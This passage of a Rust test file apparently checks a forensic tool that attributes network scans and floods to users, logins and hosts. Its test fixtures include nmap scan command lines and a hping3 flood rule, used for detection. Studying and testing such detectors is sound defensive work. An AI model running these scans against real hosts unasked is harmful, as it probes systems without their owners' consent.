    assert_eq!(report.facts.tool.as_deref(), Some("hping3"));
    assert_eq!(report.judgement.suspects[0].rule.as_deref(), Some("flood"));
    assert_eq!(report.facts.confidence, Confidence::High);
    everything_holds(&report);
}

#[test]
fn a_setuid_program_is_no_odd_elevation() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let scanner = story.run(shell, 120, ALICE, "/usr/bin/nmap", "nmap -sS 198.51.100.7");
    story.of(scanner).credentials.euid = 0;
    story.raw_scan(scanner, 121, 134, Via::Packet);
    let report = report_of(&story, accused(120, 180));
    assert_eq!(report.facts.user.as_ref().unwrap().raw(), "alice");
    assert_eq!(report.facts.effective_user.as_ref().unwrap().raw(), "root");
    assert_eq!(report.judgement.suspects[0].signs, [""; 0]);
}

#[test]
fn users_without_names_do_not_contradict_the_login() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let nmap = story.sudo(shell, 120, "/usr/bin/nmap", NMAP);
    story.raw_scan(nmap, 121, 134, Via::Packet);
    for process in &mut story.processes {
        process.user = None;
        process.login_user = None;
    }
    let report = report_of(&story, accused(120, 180));
    assert_eq!(report.facts.person.as_ref().unwrap().raw(), "alice");
    assert_eq!(report.facts.user.as_ref().unwrap().raw(), "root");
    assert_eq!(doubts(&report), []);
}

#[test]
fn another_run_of_the_same_tool_is_not_added() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let other = story.run(shell, 100, ALICE, "/usr/bin/nmap", "nmap -sT 203.0.113.9");
    story.raw_scan(other, 101, 110, Via::Socket);
    let activity = story.activities.last_mut().unwrap();
    (activity.matched, activity.matched_ports) = (0, 0);
    activity.address_sample = vec!["203.0.113.9".parse().unwrap()];
    let nmap = story.run(shell, 120, ALICE, "/usr/bin/nmap", "nmap -sT 198.51.100.7");
    story.raw_scan(nmap, 121, 134, Via::Socket);
    let report = report_of(&story, accused(120, 180));
    assert_eq!(report.facts.argv.as_ref().unwrap().raw(), "nmap -sT 198.51.100.7");
    assert_eq!(report.facts.targets.as_ref().unwrap().flows, 1000);
}

#[test]
fn hosts_of_one_name_are_told_apart() {
    let mut story = Story::new();
    let shell = story.ssh(ALICE, LAPTOP, 60);
    let nmap = story.sudo(shell, 120, "/usr/bin/nmap", NMAP);
    story.raw_scan(nmap, 121, 134, Via::Packet);
    let claim = accused(120, 180);
    let mut twin = answer(&Story::new(), &claim);
    twin.host.instance_id = Some("i-0fedcba9876543210".to_owned());
    let mut both = located();
    both.hosts.insert(0, twin.host.clone());
    let report = report_with(vec![claim.clone()], both, &[twin, answer(&story, &claim)]);
    assert_eq!(report.facts.instance_id.as_deref(), Some(INSTANCE));
    assert_eq!(report.facts.host.as_deref(), Some("web-1 i-0123456789abcdef0"));
    everything_holds(&report);
}
